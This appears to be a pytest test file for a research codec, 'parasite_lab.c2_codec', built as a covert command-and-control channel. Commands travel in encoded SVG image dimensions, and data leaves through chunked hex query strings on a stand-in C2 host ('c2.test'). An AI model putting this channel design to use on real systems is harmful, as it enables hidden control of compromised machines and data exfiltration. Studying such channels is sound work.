import math
import random

from hypothesis import given
from hypothesis import strategies as st
import pytest

from parasite_lab.c2_codec import (BYTES_PER_IMAGE, DownstreamFrame, GapError, ImageCodeword, LengthError,
                                   BudgetError, channel_throughput, chunk_upstream, decode_downstream,
                                   decode_upstream, decode_upstream_chunks, encode_downstream,
                                   encode_upstream, images_for, measure_svg, render_svg, svg_document)


def dims(frame):
    return [(c.width, c.height) for c in frame.codewords]


def test_deadbeef():
    assert dims(encode_downstream(bytes([0xDE, 0xAD, 0xBE, 0xEF]))) == [(0, 4), (57005, 48879)]


def test_empty_and_single_byte():
    assert dims(encode_downstream(b"")) == [(0, 0)]
    assert dims(encode_downstream(b"\x01")) == [(0, 1), (256, 0)]


def test_decode_errors():
    f = encode_downstream(b"12345678")
    with pytest.raises(GapError) as exc:
        decode_downstream([f.codewords[0], f.codewords[2]])
    assert exc.value.index == 1
    with pytest.raises(LengthError):
        decode_downstream([ImageCodeword(0, 0, 8), ImageCodeword(1, 1, 1)])
    with pytest.raises(LengthError):
        decode_downstream(DownstreamFrame(9, f.codewords))


@given(st.binary(max_size=2048), st.randoms())
def test_round_trip_any_order(data, rnd):
    words = list(encode_downstream(data).codewords)
    assert len(words) == 1 + math.ceil(len(data) / 4) == images_for(len(data))
    rnd.shuffle(words)
    assert decode_downstream(words) == data


@given(st.integers(0, 65535), st.integers(0, 65535))
def test_svg_size_and_measure(w, h):
    doc = render_svg(ImageCodeword(0, w, h))
    assert len(doc) <= 130
    assert measure_svg(doc) == (w, h)


def test_svg_example_and_clamp():
    doc = render_svg(ImageCodeword(0, 1, 2))
    assert b'width="1" height="2"' in doc
    assert measure_svg(svg_document(70000, 5)) == (65535, 5)
    with pytest.raises(ValueError):
        ImageCodeword(0, 70000, 0)


def test_upstream_examples():
    assert encode_upstream(b"\xab", "http://c2.test/u") == "http://c2.test/u?d=ab"
    assert encode_upstream(b"", "http://c2.test/u") == "http://c2.test/u?d="
    assert decode_upstream("http://c2.test/u?d=ab") == b"\xab"
    with pytest.raises(BudgetError):
        encode_upstream(bytes(3000), "http://c2.test/u")


def test_chunked_3000_bytes():
    base = "http://c2.test/u"
    urls = chunk_upstream(bytes(range(256)) * 12, base)
    assert all(len(u) <= 2048 for u in urls)
    # hex doubles the payload, so 3072 bytes need ceil(6144 / room) URLs
    room = (2048 - len(base + "?i=0&d=")) // 2
    assert len(urls) == math.ceil(3072 / room)
    assert [u.split("i=")[1].split("&")[0] for u in urls] == [str(i) for i in range(len(urls))]
    urls3000 = chunk_upstream(bytes(3000), base)
    assert len(urls3000) == 3
    random.Random(1).shuffle(urls3000)
    assert decode_upstream_chunks(urls3000) == bytes(3000)


@given(st.binary(max_size=5000))
def test_upstream_chunk_round_trip(data):
    assert decode_upstream_chunks(chunk_upstream(data, "http://x.test/u?k=1")) == data


def test_throughput():
    assert channel_throughput(25600) == 102400 == 100 * 1024
    assert channel_throughput(1) == BYTES_PER_IMAGE
    with pytest.raises(ValueError):
        channel_throughput(0)
